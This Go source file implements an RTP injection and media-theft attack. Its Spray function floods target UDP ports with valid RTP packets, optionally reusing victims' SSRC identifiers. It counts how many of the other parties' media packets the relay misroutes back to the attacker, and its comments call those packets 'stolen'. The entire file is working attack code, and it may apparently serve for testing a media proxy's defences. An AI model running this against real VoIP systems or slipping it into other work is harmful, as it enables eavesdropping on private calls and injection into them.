package rtp

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"time"
)

// Attack is a stream of valid RTP packets to ports where they do not belong.
type Attack struct {
	From    netip.AddrPort   // port 0: the kernel's choice
	Targets []netip.AddrPort // all of them in turn
	SSRC    []uint32         // copied from the victims: for each target its own, or empty for one made up
	Rate    int              // packets per second in all; zero: 2000
	Type    uint8            // payload type
}

// Attacked is what an attack came to.
type Attacked struct {
	Sent     int
	Received int // datagrams that reached the attacker
	Stolen   int // of them, not an attacker's own that came back
}

// mark is how a packet of an attacker begins.
const mark = "not of this call"

// Spray attacks until ctx is done. It reports how much of the victims' traffic
// was sent to it; what reached the victims shows in their streams as foreign.
func Spray(ctx context.Context, a Attack) (Attacked, error) {
	if a.Rate == 0 {
		a.Rate = 2000
	}
	conn, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(a.From))
	if err != nil {
		return Attacked{}, fmt.Errorf("opening the attacker: %w", err)
	}
	defer func() { _ = conn.Close() }()
	var done Attacked
	b := make([]byte, headerSize+160)
	b[0], b[1] = 0x80, a.Type
	copy(b[headerSize:], mark)
	start := time.Now()
	for ctx.Err() == nil {
		for due := int(time.Since(start).Seconds() * float64(a.Rate)); done.Sent < due; done.Sent++ {
			i := done.Sent % len(a.Targets)
			round := done.Sent / len(a.Targets)
			binary.BigEndian.PutUint16(b[2:], uint16(round))
			binary.BigEndian.PutUint32(b[4:], uint32(round*160))
			if len(a.SSRC) > 0 {
				binary.BigEndian.PutUint32(b[8:], a.SSRC[i%len(a.SSRC)])
			}
			if _, err := conn.WriteToUDPAddrPort(b, a.Targets[i]); err != nil {
				return done, fmt.Errorf("attacking: %w", err)
			}
		}
		n, stolen, err := drain(conn)
		done.Received += n
		done.Stolen += stolen
		if err != nil {
			return done, fmt.Errorf("listening for what the attack brings: %w", err)
		}
	}
	return done, nil
}

// drain counts what comes within a millisecond.
func drain(conn *net.UDPConn) (n, stolen int, err error) {
	_ = conn.SetReadDeadline(time.Now().Add(time.Millisecond))
	var b [headerSize + len(mark)]byte
	for {
		size, _, err := conn.ReadFromUDPAddrPort(b[:])
		if errors.Is(err, os.ErrDeadlineExceeded) {
			return n, stolen, nil
		}
		if err != nil {
			return n, stolen, err
		}
		n++
		if size < len(b) || string(b[headerSize:]) != mark {
			stolen++
		}
	}
}
